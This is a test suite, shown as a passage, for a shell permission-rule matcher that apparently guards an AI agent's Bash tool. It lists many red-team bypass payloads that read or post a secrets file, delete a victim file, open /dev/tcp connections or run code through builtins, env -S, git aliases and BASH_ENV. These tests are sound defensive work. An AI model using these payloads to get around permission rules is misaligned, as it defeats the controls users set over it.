// Round 3 of the red team (issue 31 "The Bash rule matcher", issue 36 "Bash reads", "Links"): each bypass class, with
// its payloads checked in a real bash first (it really runs, writes, reads or connects), then decided by the rules.
import { describe, expect, it } from "@effect/vitest"
import { execFileSync } from "node:child_process"
import * as fs from "node:fs"
import * as net from "node:net"
import * as path from "node:path"
import { load } from "../src/internal/rules/bashParser.js"
import { analyze, MAX_COMMAND_LENGTH } from "../src/internal/rules/shellRules.js"
import { toLaunch } from "../src/internal/session/options.js"
import * as Effect from "effect/Effect"
import { ALLOWLIST, DENYLIST } from "./support/bashFuzz.js"
import { decideIn, inBash, sandbox } from "./support/bashJudge.js"
import { bash, decide, type Spec } from "./support/rules.js"

describe("issue 31: the parser keeps no state across decisions", () => {
  it("a parse abandoned at its deadline leaves nothing for the next parse", async () => {
    const language = await load()
    const long = `echo ${"a ".repeat(5000)}`
    expect(language.parse(long, performance.now() - 1)).toBeNull()
    const tree = language.parse("echo a;touch X", performance.now() + 10_000)
    try {
      expect(tree?.rootNode.namedChildren.map((c) => c?.text)).toEqual(["echo a", "touch X"])
    } finally {
      tree?.delete()
    }
  })

  it("a command past the size limit is decided without parsing: deny rules match, allow rules do not", async () => {
    const huge = `echo ${"a".repeat(4 * 1024 * 1024)}`
    const parse = () => {
      throw new Error("parsed a command past the size limit")
    }
    expect(analyze({ parse }, huge).limit).toBe(true)
    expect(analyze({ parse }, `echo ${"a".repeat(MAX_COMMAND_LENGTH)}`).limit).toBe(true)
    expect(await bash({ allow: ["Bash(echo:*)"] }, huge)).toBe("fallback")
    expect(await bash({ allow: ["Bash"], deny: ["Bash(rm:*)"] }, huge)).toBe("deny")
    expect(await bash({ allow: ["Bash"], deny: ["Write(./secrets/**)"] }, huge)).toBe("deny")
    // within the limit, an unparsable command is judged on its crude tokens, however many
    const tokens = `echo 'x ${"a ".repeat(10_000)}; rm -rf /`
    expect(await bash({ allow: ["Bash"], deny: ["Bash(rm -rf /)"] }, tokens)).toBe("deny")
    expect(await bash({ allow: ["Bash"], deny: ["Bash(rm:*)"] }, tokens)).toBe("deny")
    expect(await bash({ allow: ["Bash"], deny: ["Bash(r* -rf *)"] }, tokens)).toBe("deny")
  })
})

describe("issue 31: words after a redirection belong to the command", () => {
  const exact: ReadonlyArray<readonly [string, string]> = [
    ["Bash(git diff)", "git diff 2>/dev/null --no-index --output=X data.txt data.txt"],
    ["Bash(find .)", "find . 2>/dev/null -exec touch X \\;"],
    ["Bash(make)", "make 2>/dev/null --eval='x:=$(shell touch X)'"],
    ["Bash(git status)", "git status <<EOF --porcelain\nEOF"]
  ]
  it("each payload really writes X in bash", () => {
    for (const [, command] of exact.slice(0, 3)) expect([command, inBash(command).touched]).toEqual([command, true])
  })
  for (const [rule, command] of exact) {
    it(`${rule} does not allow ${JSON.stringify(command)}`, async () => {
      expect(await decideIn({ allow: [rule] }, command)).toBe("fallback")
    })
  }
  const hidden = [
    "eval 2>/dev/null 'rm victim'",
    "bash 2>/dev/null -c 'rm victim'",
    "command 2>/dev/null rm victim",
    "env <<EOF rm victim\nEOF",
    "nice >/dev/null rm victim",
    "xargs <<< victim 2>/dev/null rm"
  ]
  it("each payload really removes victim in bash", () => {
    for (const command of hidden) expect([command, inBash(command).victimGone]).toEqual([command, true])
  })
  for (const command of hidden) {
    it(`Bash(rm:*) denies ${JSON.stringify(command)}`, async () => {
      expect(await decideIn({ allow: ["Bash"], deny: ["Bash(rm:*)"] }, command)).toBe("deny")
    })
  }
})

describe("issue 31: a write target is judged whole, and one not known before it runs is matched by deny rules", () => {
  it("`>'out/.'\\./X` writes ./X: Write(./out/**) does not allow it", async () => {
    expect(inBash("echo hi >'out/.'\\./X").touched).toBe(true)
    expect(await decideIn({ allow: ["Bash(echo:*)", "Write(./out/**)"] }, "echo hi >'out/.'\\./X")).toBe("fallback")
    expect(await decideIn({ allow: ["Bash(echo:*)", "Write(./out/**)"] }, "echo hi >'out/'x")).toBe("allow")
    expect(await decideIn({ allow: ["Bash(echo:*)", "Write(./out/**)"] }, "echo hi >'out/x'")).toBe("allow")
  })
  const targets = [
    ">'s'\\ecrets/k",
    "> $PWD/secrets/k",
    "> secre?s/k",
    "> ~+/secrets/k",
    "> \"$PWD\"/secrets/k",
    // found by the fuzzer: tree-sitter-bash reads the words after `2>&-` as an error, and the target as its own
    "2>&- -c -c > $PWD/secrets/k",
    // found by the fuzzer: a target before the command, split by the parser into a target and the command's name
    "; 1> 's'\\ecrets/k echo pwned",
    "; &>'s'\\ecrets/k grep pwned ."
  ]
  it("each target really is secrets/k in bash", () => {
    for (const target of targets) {
      const command = target.startsWith(";") ? target.slice(2) : `echo pwned ${target}`
      expect([target, inBash(command).secret !== "SECRET\n"]).toEqual([target, true])
    }
  })
  for (const target of targets) {
    const command = target.startsWith(";") ? target.slice(2) : `echo pwned ${target}`
    it(`deny Write(./secrets/**) matches \`${command}\``, async () => {
      expect(await decideIn({ allow: ["Bash"], deny: ["Write(./secrets/**)"] }, command)).toBe("deny")
    })
  }
})

describe("issue 31: builtins that run code or rebind names are re-entry", () => {
  // [the allow rule a user would write, the command, what the payload does]
  const allowCases: ReadonlyArray<readonly [string, string]> = [
    ["Bash(printf:*)", "printf -v 'a[$(touch X)]' x"],
    ["Bash(read:*)", "read 'a[$(touch X)]' <<< x"],
    ["Bash(test:*)", "test -v 'a[$(touch X)]'"],
    ["Bash([:*)", "[ -v 'a[$(touch X)]' ]"],
    ["Bash(compgen:*)", "compgen -W '$(touch X)' x"],
    ["Bash(compgen:*)", "compgen -C 'touch X' x"],
    ["Bash(mapfile:*)", "mapfile -C 'touch X' -c 1 a <<< x"],
    ["Bash(readarray:*)", "readarray -C 'touch X' -c 1 a <<< x"],
    ["Bash(jobs:*)", "jobs -x touch X"],
    ["Bash(trap:*)", "trap 'touch X' EXIT"],
    ["Bash(let:*)", "let 'a[$(touch X)]=1'"],
    ["Bash(unset:*)", "a=(1); unset 'a[$(touch X)]'"],
    ["Bash(eval:*)", "eval touch X"],
    ["Bash(source:*)", "source /dev/stdin <<< 'touch X'"],
    ["Bash(.:*)", ". /dev/stdin <<< 'touch X'"],
    ["Bash(exec:*)", "exec touch X"],
    ["Bash(command:*)", "command touch X"],
    ["Bash(builtin:*)", "builtin eval touch X"],
    ["Bash(timeout:*)", "timeout 5 touch X"],
    ["Bash(timeout 5:*)", "timeout 5 touch X"],
    ["Bash(nice:*)", "nice -n 1 touch X"],
    ["Bash(env:*)", "env touch X"],
    ["Bash(xargs:*)", "xargs touch <<< X"],
    ["Bash(bash:*)", "bash -c 'touch X'"],
    ["Bash(find:*)", "find . -maxdepth 0 -exec touch X \\;"]
  ]
  const rebinding: ReadonlyArray<readonly [ReadonlyArray<string>, string]> = [
    [["Bash(hash:*)", "Bash(ls:*)"], "hash -p /usr/bin/touch ls; ls X"],
    [["Bash(read:*)", "Bash(ls:*)"], "read PATH <<< /nowhere; ls"],
    [["Bash(printf:*)", "Bash(ls:*)"], "printf -v PATH /nowhere; ls"],
    [["Bash(alias:*)", "Bash(shopt:*)", "Bash(ls:*)"], "shopt -s expand_aliases; alias ls='touch X'\nls"],
    [["Bash(enable:*)", "Bash(echo:*)"], "enable -n echo; echo hi"],
    [["Bash(set:*)", "Bash(echo:*)"], "set -k; echo PATH=/nowhere"]
  ]
  it("each payload really runs touch X in bash", () => {
    for (const [, command] of [...allowCases, ...rebinding.slice(0, 1), ...rebinding.slice(3, 4)]) {
      expect([command, inBash(command).touched]).toEqual([command, true])
    }
  })
  for (const [rule, command] of allowCases) {
    it(`${rule} does not allow ${JSON.stringify(command)}`, async () => {
      expect(await decideIn({ allow: [rule, "Bash(a=(1))"] }, command)).toBe("fallback")
    })
  }
  for (const [rules, command] of rebinding) {
    it(`${rules.join(", ")} do not allow ${JSON.stringify(command)}`, async () => {
      expect(await decideIn({ allow: [...rules] }, command)).toBe("fallback")
    })
  }
  it("the harmless forms of the same builtins stay allowed by their rules", async () => {
    const harmless: ReadonlyArray<readonly [string, string]> = [
      ["Bash(printf:*)", "printf '%s\\n' a b"],
      ["Bash(test:*)", "test -f package.json"],
      ["Bash(jobs:*)", "jobs -l"],
      ["Bash(command -v:*)", "command -v git"],
      ["Bash(set:*)", "set -euo pipefail"],
      ["Bash(timeout 5 npm test:*)", "timeout 5 npm test -- --watch=false"],
      ["Bash(nice npm test:*)", "nice npm test"],
      ["Bash(env -i npm test:*)", "env -i npm test"],
      ["Bash(eval echo hi)", "eval echo hi"],
      ["Bash(shopt:*)", "shopt -q nullglob"]
    ]
    for (const [rule, command] of harmless) {
      expect([rule, command, await decideIn({ allow: [rule] }, command)]).toEqual([rule, command, "allow"])
    }
  })
  const denyCases = [
    "printf -v 'a[$(rm victim)]' x",
    "read 'a[$(rm victim)]' <<< x",
    "test -v 'a[$(rm victim)]'",
    "compgen -W '$(rm victim)' x",
    "compgen -C 'rm victim' x",
    "mapfile -C 'rm victim' -c 1 a <<< x",
    "jobs -x rm victim",
    "trap 'rm victim' EXIT",
    "let 'a[$(rm victim)]=1'",
    "hash -p /usr/bin/rm ls; ls victim",
    "shopt -s expand_aliases; alias ls='rm'\nls victim",
    "bash -c \"bash -c \\\"bash -c 'bash -c \\\\\\\"rm victim\\\\\\\"'\\\"\""
  ]
  it("each payload really removes victim in bash", () => {
    for (const command of denyCases) expect([command, inBash(command).victimGone]).toEqual([command, true])
  })
  for (const command of denyCases) {
    it(`Bash(rm:*) denies ${JSON.stringify(command)}`, async () => {
      expect(await decideIn({ allow: ["Bash"], deny: ["Bash(rm:*)"] }, command)).toBe("deny")
    })
  }
})

describe("issue 31: /dev/tcp and /dev/udp redirections are refused", () => {
  it("bash really connects, and no allow rule lets it", async () => {
    const server = net.createServer((socket) => socket.destroy())
    const connected = new Promise<void>((resolve) => server.once("connection", () => resolve()))
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve))
    const address = server.address()
    const port = typeof address === "object" && address !== null ? address.port : 0
    try {
      const commands = [
        `cat < /dev/tcp/127.0.0.1/${port}`,
        `echo hi > /dev/tcp/127.0.0.1/${port}`,
        `echo hi 2>/dev/null >/dev/tcp/127.0.0.1/${port}`,
        `cat <> /dev/tcp/127.0.0.1/${port}`,
        `echo hi > /dev/tcp/127.0.0.1/$((${port}))`,
        `echo hi > /dev/udp/127.0.0.1/${port}`
      ]
      // a write needs no answer: bash connects (the kernel accepts while this process is blocked in the spawn), writes
      // and exits; a read (`cat <`) would wait for data this blocked process cannot send until the judge's timeout
      inBash(commands[1]!)
      await connected
      const spec = { allow: ["Bash(cat:*)", "Bash(echo:*)", "Write(/dev/**)", "Write(//dev/**)"] }
      for (const command of commands) expect([command, await decideIn(spec, command)]).toEqual([command, "fallback"])
    } finally {
      server.close()
    }
  })
})

describe("issue 31: the CLI's own commit-message form", () => {
  const commit = (body: string, quote = "'") => `git commit -m "$(cat <<${quote}EOF${quote}\n${body}\nEOF\n)"`
  const spec = { allow: ["Bash(git commit:*)", "Bash(cat:*)"] }
  it("is allowed with Bash(git commit:*) and Bash(cat:*), and bash passes the body as the message", async () => {
    const bodies = [
      "fix: a thing",
      "feat(scope): x\n\nBody with $(touch X) and `touch X` and ${x:-y} and \"quotes\" and 'it''s'\n\nCo-Authored-By: Claude <noreply@anthropic.com>",
      "a line ) with a paren\nxEOF\n",
      ""
    ]
    for (const body of bodies) {
      const command = commit(body)
      expect([command, await decideIn(spec, command)]).toEqual([command, "allow"])
      // bash: `git` is a function that prints its arguments; nothing else runs
      const run = inBash(`git() { printf '%s\\0' "$@"; }\n${command}`)
      expect(run.touched).toBe(false)
      expect(run.output.split("\0").slice(0, -1)).toEqual(["commit", "-m", body.replace(/\n+$/, "")])
    }
    expect(await decideIn(spec, commit("msg", "\""))).toBe("allow")
  })
  it("needs both rules, a quoted delimiter and exactly this shape", async () => {
    expect(await decideIn({ allow: ["Bash(git commit:*)"] }, commit("msg"))).toBe("fallback")
    expect(await decideIn(spec, commit("msg $(touch X)", ""))).toBe("fallback")
    expect(inBash(commit("msg $(touch X)", "")).touched).toBe(true)
    for (
      const command of [
        "git commit -m \"$(cat <<'EOF'\nmsg\nEOF\n)$(touch X)\"",
        "git commit -m \"x$(cat <<'EOF'\nmsg\nEOF\n)\"",
        "git commit -m \"$(cat x <<'EOF'\nmsg\nEOF\n)\"",
        "git commit -m \"$(cat <<'EOF' > X\nmsg\nEOF\n)\"",
        "git commit -m \"$(cat <<'EOF'\nmsg\nEOF\ntouch X\n)\"",
        "git commit -m \"$(cat <<'EOF'\nEOF\ntouch X\nEOF\n)\"",
        "git commit -m $(cat <<'EOF'\nmsg\nEOF\n)",
        // tree-sitter-bash ends the heredoc at lines bash does not end it at (an indented `EOF`, `EOF `, and inside
        // `$(…)` any line that starts with `EOF`): the tree does not have this shape, which errs on the safe side
        "git commit -m \"$(cat <<'EOF'\na\n  EOF b\nEOF\n)\"",
        "git commit -m \"$(cat <<'EOF'\na\nEOF \nEOF\n)\"",
        "git commit -m \"$(cat <<'EOF'\na\nEOFX\nEOF\n)\""
      ]
    ) {
      expect([command, await decideIn(spec, command)]).toEqual([command, "fallback"])
    }
  })
})

describe("issue 36: Bash reads are judged against Read deny rules", () => {
  const guarded = {
    allow: ["Bash(cat:*)", "Bash(grep:*)", "Bash(head:*)", "Bash(sed:*)", "Bash(cp:*)", "Bash"],
    deny: ["Read(./secrets/**)"]
  }
  const reads = [
    "cat secrets/k",
    "cat < secrets/k",
    "head -n 1 secrets/k",
    "grep -r SECRET secrets",
    "grep -r SECRET .",
    "grep -R SECRET",
    "grep SECRET secrets/k data.txt",
    "sed -n p secrets/k",
    "cat secre?s/k",
    "cat secret[s]/*",
    "cat $PWD/secrets/k",
    "cat ~+/secrets/k",
    "cat 'secrets'/k",
    "cat --show-ends secrets/k",
    "cp secrets/k out/c && cat out/c",
    "cd secrets && cat k",
    "cd secrets; cat < k",
    "find . -name k -exec cat {} \\;",
    "xargs cat <<< secrets/k",
    "timeout 5 cat secrets/k",
    "eval 'cat secrets/k'",
    "bash -c 'cat secrets/k'",
    "echo $(cat secrets/k)",
    "tar cf - . | cat",
    // found by the fuzzer: outside a repository `git diff` compares the two trees, and prints secrets/k
    "git diff sub .",
    "rg SECRET"
  ]
  it("each command really reads secrets/k in bash", () => {
    for (const command of reads.filter((c) => !c.startsWith("rg"))) {
      const run = inBash(command)
      expect([command, run.output.includes("SECRET") || run.exists("out/c")]).toEqual([command, true])
    }
  })
  for (const command of reads) {
    it(`deny Read(./secrets/**) matches ${JSON.stringify(command)}`, async () => {
      expect(await decideIn(guarded, command)).toBe("deny")
    })
  }
  it("reads elsewhere stay allowed", async () => {
    for (
      const command of ["cat data.txt", "grep data data.txt", "cat *.txt", "head -n 1 data.txt out/x", "grep -r x out"]
    ) {
      expect([command, await decideIn(guarded, command)]).toEqual([command, "allow"])
    }
  })
})

describe("issue 31: a script file, and any operand of a program the lists do not know, whatever its form", () => {
  // found by the stress fuzzer (random seed 885383572): bash given a script operand written as a glob read secrets/k
  const guarded = { allow: ["Bash"], deny: ["Read(./secrets/**)"] }
  const reads = [
    "bash <<< 'touch X' secre?s/k $(touch X) `touch X` 2>&1",
    "bash secre?s/k 2>&1",
    "sh secret[s]/k 2>&1",
    "bash -x -- s*/k 2>&1",
    "bash -o errexit secrets/k 2>&1",
    "env bash */k 2>&1",
    "command bash secre?s/k 2>&1",
    "cd secrets && bash k 2>&1",
    "cd secrets && bash ? 2>&1",
    "bash secrets/{k,j} 2>&1",
    "bash \"$PWD/secrets/k\" 2>&1",
    "bash ~+/secrets/k 2>&1",
    "xargs bash <<< secrets/k 2>&1",
    "node secre?s/k 2>&1",
    "cd secrets && node k 2>&1",
    "perl -ne print secre?s/k",
    "cd secrets && perl -ne print k",
    "perl -ne print *s/k"
  ]
  it("each command really reads secrets/k in bash", () => {
    for (const command of reads) {
      expect([command, inBash(command).output.includes("SECRET")]).toEqual([command, true])
    }
  })
  for (const command of reads) {
    it(`deny Read(./secrets/**) matches ${JSON.stringify(command)}`, async () => {
      expect(await decideIn(guarded, command)).toBe("deny")
    })
  }
  it("an unknown program given the denied directory (as a glob, a literal, or after cd) is denied", async () => {
    for (
      const command of ["mytool secrets", "mytool *", "mytool s*/k", "cd secrets && mytool k", "mytool --in=s?crets/k"]
    ) {
      expect([command, await decideIn(guarded, command)]).toEqual([command, "deny"])
    }
  })
  // round 4 (class I): an operand whose value is not known (`"$X"`, `"echo $HOME"`) may name the denied path
  // (`X=secrets; git diff $X sub`, `HOME='x; cat secrets/k'; bash -c "echo $HOME"` read it): the deny rule matches
  it("an operand of a program the lists do not know whose value is not known is denied", async () => {
    for (const command of ["bash -c \"echo $HOME\"", "node app.js \"$X\"", "mytool \"$X\" data.txt"]) {
      expect([command, await decideIn(guarded, command)]).toEqual([command, "deny"])
    }
  })
  it("scripts, inline code and arguments elsewhere stay allowed", async () => {
    for (
      const command of [
        "bash out/run.sh",
        "bash *.txt",
        "bash -c 'echo hi' _ \"$X\"",
        "node -e 'console.log(1)' data.txt",
        "node app.js data.txt",
        "perl -ne print data.txt",
        "python3 -m tokenize data.txt",
        "mytool data.txt",
        "git status",
        "npm run build"
      ]
    ) {
      expect([command, await decideIn(guarded, command)]).toEqual([command, "allow"])
    }
  })
})

describe("issue 31: the second red team's classes (wrappers, option forms, names read from files, nocaseglob)", () => {
  const guarded = { allow: ["Bash"], deny: ["Bash(rm:*)", "Read(./secrets/**)", "Write(./secrets/**)"] }
  const reads = [
    // env -S splits a string into a command
    "env -S 'cat secrets/k'",
    "env -S'cat secrets/k'",
    "env --split-string='cat secrets/k'",
    "timeout 5 env -S 'cat secrets/k'",
    // a wrapper runs its command in another directory
    "env -C secrets cat k",
    "env -Csecrets cat k",
    "env --chdir=secrets cat k",
    "env -u X -C secrets cat k",
    "unshare --wd=secrets cat k",
    // a wrapper runs a string of its own with a shell
    "flock out/lock -c 'cat secrets/k'",
    "script -qc 'cat secrets/k' /dev/null",
    // an option's value attached to its letter, and the file a wrapper reads its arguments from
    "xargs -asecrets/k echo",
    "xargs -a secrets/k echo",
    "xargs --arg-file=secrets/k echo",
    // the names of the files to read come from a file
    "printf 'secrets/k\\0' > out/l; sort --files0-from=out/l",
    // globs that match without case
    "shopt -s nocaseglob; cat SECRET?/[K]",
    // a recursive search with its flags in one cluster, or with no path but an option's value
    "grep -rn SECRET",
    "grep -r --include=k SECRET"
  ]
  const writes = [
    "env -S 'cp data.txt secrets/x'",
    "flock out/lock -c 'echo x > secrets/x'",
    "sort -osecrets/x data.txt",
    "cp -tsecrets data.txt",
    "shopt -s nocaseglob; echo x > [S]ECRETS/[K]"
  ]
  const removals = ["env -S'rm victim'", "env -iS'rm victim'", "flock out/lock -c 'true; rm victim'"]
  it("each command really reads secrets/k, writes in secrets/ or removes victim in bash", () => {
    for (const command of reads) expect([command, inBash(command).output.includes("SECRET")]).toEqual([command, true])
    for (const command of writes) {
      const run = inBash(command)
      const wrote = run.exists("secrets/x") || run.exists("secrets/data.txt") || run.secret !== "SECRET\n"
      expect([command, wrote]).toEqual([command, true])
    }
    for (const command of removals) expect([command, inBash(command).victimGone]).toEqual([command, true])
  })
  for (const command of [...reads, ...writes, ...removals]) {
    it(`the deny rules match ${JSON.stringify(command)}`, async () => {
      expect(await decideIn(guarded, command)).toBe("deny")
    })
  }
  it("a file sent or fetched by URL: `@file`, `<file`, `file:` URLs", async () => {
    const box = sandbox()
    try {
      const url = `file://${box.work}/secre%74s/k`
      expect(execFileSync("curl", ["-sS", url], { cwd: box.work, encoding: "utf8" })).toBe("SECRET\n")
      for (
        const command of [
          `curl -sS ${url}`,
          `curl -sS -o out/x file://localhost${box.work}/secrets/k`,
          "curl -d @secrets/k http://127.0.0.1:9/",
          "curl -F f=@secrets/k http://127.0.0.1:9/",
          "curl -F 'f=<secrets/k' http://127.0.0.1:9/",
          "echo secrets/k | zip -q out/z.zip -@",
          "mktemp -psecrets",
          "curl -Ksecrets/k",
          "parallel -a secrets/k echo",
          "sudo mytool secrets",
          "nsenter --wd=secrets cat k"
        ]
      ) {
        expect([command, await bash(guarded, command, box.work)]).toEqual([command, "deny"])
      }
    } finally {
      box.done()
    }
  })
  it("the same programs with their everyday arguments stay allowed", async () => {
    for (
      const command of [
        "sort -o out/x data.txt",
        "curl -sS -o out/x https://example.com/",
        "env FOO=1 node app.js",
        "env -C out ls",
        "timeout 5 npm test",
        "flock out/lock npm test",
        "grep -rn data out",
        "sha256sum data.txt",
        "git commit -m 'fix the secrets handling'"
      ]
    ) {
      expect([command, await decideIn(guarded, command)]).toEqual([command, "allow"])
    }
  })
})

describe("issue 31: the third red team's classes (substitutions, GNU options, code in options and variables)", () => {
  const guarded = { allow: ["Bash"], deny: ["Bash(rm:*)", "Read(./secrets/**)", "Write(./secrets/**)"] }
  const reads = [
    // a substitution that is only a redirection
    "echo $(<secrets/k)",
    "echo \"$(<secre?s/k)\"",
    "cat <<< \"$(<secrets/k)\"",
    // the value of a shell string wrapper's long option, and GNU abbreviations of long options
    "script --command='cat secrets/k' /dev/null",
    "script -E never --comm 'cat secrets/k' /dev/null",
    "env --ch=secrets cat k",
    "env --c secrets cat k",
    "env --split 'cat secrets/k'",
    "grep --recur SECRET .",
    "grep --dir=recurse SECRET .",
    "printf 'secrets/k\\0' > out/l; sort --files0-f=out/l",
    // a value in the next word before env's -S, and grep's -d recurse
    "env -u X -S 'cat secrets/k'",
    "env --unset X --split-string='cat secrets/k'",
    "grep -d recurse SECRET",
    "grep --directories recurse SECRET .",
    // programs thought not to read files that do
    "date -f secrets/k 2>&1",
    "date -f secre?s/k 2>&1",
    "date --file=secrets/k 2>&1",
    "du --files0-from=secrets/k 2>&1",
    "find -files0-from secrets/k 2>&1",
    // the shell's own directory through /proc
    "cat /proc/self/cwd/secrets/k",
    "cat /proc/self/task/*/cwd/secre?s/k",
    // collating symbols and equivalence classes
    "cat secre[[.t.]]s/k",
    "cat secre[[=t=]]s/k",
    // nullglob empties a search's path
    "shopt -s nullglob; grep -r SECRET zz?",
    // a program's own directory option
    "git -C out diff --no-index /dev/null ../secrets/k",
    // code in a program's options, and files its variables load
    "git -c alias.x='!cat secrets/k' x",
    "zip out/z.zip data.txt -T --unzip-command='cat secrets/k'",
    "BASH_ENV=secrets/k bash -c true 2>&1",
    "export BASH_ENV=secrets/k; bash -c true 2>&1",
    "NODE_OPTIONS='--require ./secrets/k' node -e 0 2>&1",
    // a subscript with a substitution, evaluated as arithmetic
    "x='a[$(cat secrets/k >&2)]'; [[ $x -eq 1 ]] 2>&1"
  ]
  const removals = [
    "su --command='rm victim' 2>/dev/null; script --command='rm victim' /dev/null",
    "git -c alias.x='!rm victim' x",
    "GIT_CONFIG_PARAMETERS=\"'alias.x=!rm victim'\" git x",
    "zip out/z.zip data.txt -T -TT 'rm victim'",
    "[[ -v 'a[$(rm victim)]' ]]",
    "x='a[$(rm victim)]'; (( x ))",
    "command test -v 'a[$(rm victim)]'",
    "builtin printf -v 'a[$(rm victim)]' x",
    "command read 'a[$(rm victim)]' <<< 1"
  ]
  const writes = [": $(>secrets/x)", "echo x > /proc/self/cwd/secrets/x", "cp data.txt /proc/self/cwd/secrets/x"]
  it("each command really reads secrets/k, writes in secrets/ or removes victim in bash", () => {
    for (const command of reads) expect([command, inBash(command).output.includes("SECRET")]).toEqual([command, true])
    for (const command of removals) expect([command, inBash(command).victimGone]).toEqual([command, true])
    for (const command of writes) expect([command, inBash(command).exists("secrets/x")]).toEqual([command, true])
  })
  for (const command of [...reads, ...removals, ...writes]) {
    it(`the deny rules match ${JSON.stringify(command)}`, async () => {
      expect(await decideIn(guarded, command)).toBe("deny")
    })
  }
  it("curl's own URL globs, any file: URL host, and URLs from its config files", async () => {
    const box = sandbox()
    try {
      const glob = `file://${box.work}/secre{t}s/k`
      expect(execFileSync("curl", ["-s", glob], { cwd: box.work, encoding: "utf8" })).toBe("SECRET\n")
      for (
        const command of [
          `curl -s '${glob}'`,
          `curl -s 'file://${box.work}/secre[s-t]s/k'`,
          `curl -s file://127.0.0.1${box.work}/secrets/k`,
          "curl -s -K out/c",
          "ssh -o ProxyCommand='rm victim' x"
        ]
      ) {
        expect([command, await bash(guarded, command, box.work)]).toEqual([command, "deny"])
      }
    } finally {
      box.done()
    }
  })
  it("the everyday forms stay allowed", async () => {
    for (
      const command of [
        "echo $(<data.txt)",
        "git -C out status",
        "env -C out ls",
        "grep -rn data out",
        "grep -r -m 1 data out",
        "make -C sub",
        "x=1; (( x ))",
        "GIT_PAGER=cat git log",
        "NODE_OPTIONS=--max-old-space-size=4096 node app.js",
        "cat /proc/cpuinfo",
        "curl -s -g 'https://example.com/a[1]'"
      ]
    ) {
      expect([command, await decideIn(guarded, command)]).toEqual([command, "allow"])
    }
  })
})

describe("issue 31: the fourth red team's classes (the allow side)", () => {
  const tab = "\t"
  // each runs a program no allow rule names (touch), or writes outside out/, in bash
  const payloads = [
    `echo x\\${tab}#; touch X`,
    `git status\\${tab}#; touch X`,
    `echo x > out/f\\${tab}#; touch X`,
    "sort -S 1K --compress-program=bash data.txt",
    "true || cd out && echo y > victim",
    "ls || cd out && echo x > f",
    "echo x | cd out && echo y > victim",
    "echo > 'out/b[$(touch X)]'; echo out/b*; echo x {a[$_]}>out/g"
  ]
  it("each payload really runs touch X or writes outside out/ in bash", () => {
    const ran = (command: string) => {
      const run = inBash(command, (work) => {
        // what sort hands to its compress program is the data: lines of `touch X`
        if (command.startsWith("sort")) fs.writeFileSync(path.join(work, "data.txt"), "touch X\n".repeat(3_000))
      })
      return run.touched || run.exists("f") || run.victim !== ""
    }
    for (const command of payloads) expect([command, ran(command)]).toEqual([command, true])
  })
  for (const command of payloads) {
    it(`the allow list does not allow ${JSON.stringify(command)}`, async () => {
      expect(await decideIn(ALLOWLIST.spec, command)).not.toBe("allow")
    })
  }
  it("under the deny list, the comment form does not hide what follows", async () => {
    expect(await decideIn(DENYLIST.spec, `echo x\\${tab}#; rm victim`)).toBe("deny")
    expect(await decideIn(DENYLIST.spec, "echo > 'out/b[$(rm victim)]'; echo out/b*; echo x {a[$_]}>out/g")).toBe(
      "deny"
    )
  })
  it("the ordinary forms stay allowed", async () => {
    for (const command of ["echo a # note", "sort data.txt", "cd out && echo x > f", "git status", "echo x > out/f"]) {
      expect([command, await decideIn(ALLOWLIST.spec, command)]).toEqual([command, "allow"])
    }
  })
})

describe("issue 31: the fifth red team's classes (allow rules a user writes)", () => {
  const spec: Spec = {
    allow: [
      "Bash(npm test:*)",
      "Bash(git diff:*)",
      "Bash(git log:*)",
      "Bash(timeout 60 npm test:*)",
      "Bash(cat:*)",
      "Bash(echo:*)",
      "Write(./out/**)",
      "Edit(./src/**)"
    ],
    deny: ["Read(./secrets/**)"]
  }
  /** The sandbox with a git repository (secrets/k committed), a package.json, and links `src/sl` → secrets, `out/up` → .. */
  const setup = (work: string) => {
    fs.mkdirSync(path.join(work, "src"))
    fs.symlinkSync("../secrets", path.join(work, "src", "sl"))
    fs.symlinkSync("..", path.join(work, "out", "up"))
    fs.writeFileSync(path.join(work, "package.json"), JSON.stringify({ scripts: { test: "echo tested" } }))
    const git = (...args: Array<string>) => execFileSync("git", args, { cwd: work, stdio: "ignore" })
    git("init", "-q")
    git("-c", "user.email=t@t", "-c", "user.name=t", "commit", "-q", "--allow-empty", "-m", "init")
  }
  const payloads: ReadonlyArray<readonly [string, (run: ReturnType<typeof inBash>) => boolean]> = [
    ["git diff --no-index --output=victim data.txt out/../victim", (run) => run.victim !== ""],
    ["git log -1 --format=%s --output=victim", (run) => run.victim !== ""],
    ["npm test --script-shell=script", (run) => run.exists("typescript")],
    ["timeout 60 npm test --script-shell=script", (run) => run.exists("typescript")],
    // a word not known before it runs may be such an option
    ["X=--script-shell=script; npm test $X", (run) => run.exists("typescript")],
    ["cat src/sl/../secrets/k", (run) => run.output.includes("SECRET")],
    ["cat < src/sl/../secrets/k", (run) => run.output.includes("SECRET")],
    ["cat data.txt > src/sl/../victim", (run) => run.victim !== ""],
    ["echo x > out/up/../work/victim", (run) => run.victim !== ""]
  ]
  it("each payload really writes outside out/ and src/, runs another program or reads secrets/k in bash", () => {
    for (const [command, did] of payloads) expect([command, did(inBash(command, setup))]).toEqual([command, true])
  })
  for (const [command] of payloads) {
    it(`the rules do not allow ${JSON.stringify(command)}`, async () => {
      expect(await decideIn(spec, command, setup)).not.toBe("allow")
    })
  }
  it("a path in a revision (`HEAD:secrets/k`) is a read of that path", async () => {
    expect(await decideIn(spec, "git diff HEAD:secrets/k HEAD:data.txt", setup)).toBe("deny")
  })
  it("the everyday forms stay allowed", async () => {
    for (
      const command of [
        "git diff",
        "git log --oneline",
        "git diff --output=out/d.patch",
        "npm test",
        "npm test --silent",
        "npm test -- --watch",
        "cat data.txt > src/b.ts",
        "echo x > out/f"
      ]
    ) {
      expect([command, await decideIn(spec, command, setup)]).toEqual([command, "allow"])
    }
  })
})

describe("issue 31: the stress fuzzer's seed 890349309, and the sixth red team's classes (file tools)", () => {
  it("an unknown program's operand that does not depend on the shell's directory is judged where that is lost", async () => {
    // outside a repository `git diff A B` compares two trees; after a link is made, relative paths are not known,
    // but `~+` and `${PWD}` are the working directory whatever it is
    const commands = [
      "mv out/l out/m ; git status -u || git diff $HOME $'--' ~+",
      "true |& ln -s .. out/up && git diff ${PWD} ~"
    ]
    for (const command of commands) {
      // (with HOME a small directory, as in the fuzzer's sandbox)
      const run = inBash(`export HOME="$(cd ../outside && pwd)"; ${command}`)
      expect([command, run.output.includes("SECRET")]).toEqual([command, true])
      expect([command, await decideIn(DENYLIST.spec, command)]).toEqual([command, "deny"])
    }
    expect(await decideIn(DENYLIST.spec, "ln -s a b && git status")).toBe("allow")
  })
